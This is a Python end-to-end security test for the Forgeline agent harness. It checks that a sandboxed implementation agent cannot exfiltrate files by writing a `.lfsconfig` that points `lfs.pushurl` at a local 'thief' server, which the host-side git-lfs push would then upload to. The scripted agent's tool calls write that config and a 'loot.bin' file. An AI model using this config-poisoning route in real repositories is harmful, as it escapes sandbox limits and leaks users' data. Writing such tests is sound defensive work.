"""Attack: an implementation agent points Git LFS at its own server; Forgeline's push uploads.

A sandboxed agent has no network, but Forgeline's host-side `git lfs push` does, and git-lfs
takes its server from the work tree's `.lfsconfig`. Through the public path (`forgeline run`
on an LFS repository, a `scripted:` implementer writing `.lfsconfig` with `lfs.pushurl` on an
attacker's loopback server and a file routed through LFS), the old push sent the upload
request (object ids, then the content) to the attacker. Now the push refuses a changed
`.lfsconfig` and the attacker's server sees nothing.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from e2e.helpers import cli_env, forgeline, summary, write_script
from e2e.test_clone_extras import APPROVE, lfs_origin


@contextmanager
def lfs_thief() -> Iterator[tuple[str, list[str]]]:
    """A server that records every request (git-lfs's batch API is POST)."""
    seen: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            seen.append(self.path)
            self.send_response(500)
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_PUT = do_GET = do_POST

        def log_message(self, format: str, *args: object) -> None:
            return

    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{httpd.server_address[1]}/steal", seen
    finally:
        httpd.shutdown()
        httpd.server_close()


def write(path: str, content: str) -> dict[str, object]:
    return {"name": "Write", "input": {"file_path": path, "content": content}}


def test_agent_cannot_redirect_lfs_push(tmp_path: Path) -> None:
    origin = lfs_origin(tmp_path)
    with lfs_thief() as (url, seen):
        calls = [
            write("weights/.lfsconfig", f"[lfs]\n\tpushurl = {url}\n"),
            write("weights/loot.bin", "private\n"),
        ]
        agents = {
            "implementation": [{"text": "Tidy up", "tool_calls": calls}, {"text": "Done."}],
            "review": APPROVE * 2,
            "security": APPROVE * 2,
            "test": APPROVE * 2,
            "documentation": [{"text": "Nothing to document."}],
        }
        script = write_script(tmp_path / "impl.yaml", agents)
        empty = tmp_path / "empty-gitconfig"
        empty.write_text("")
        env = cli_env(tmp_path / "home", GIT_CONFIG_GLOBAL=str(empty))
        args = ["run", "Tidy", "--repo", f"file://{origin}", "--phases", "implementation"]
        proc = forgeline(*args, "--model", f"scripted:{script}", "--json", env=env)
    assert seen == [], seen
    result = summary(proc)
    push = result["repositories"][0]["push"]
    assert push["ok"] is False and ".lfsconfig" in push["detail"], push
    assert proc.returncode == 1
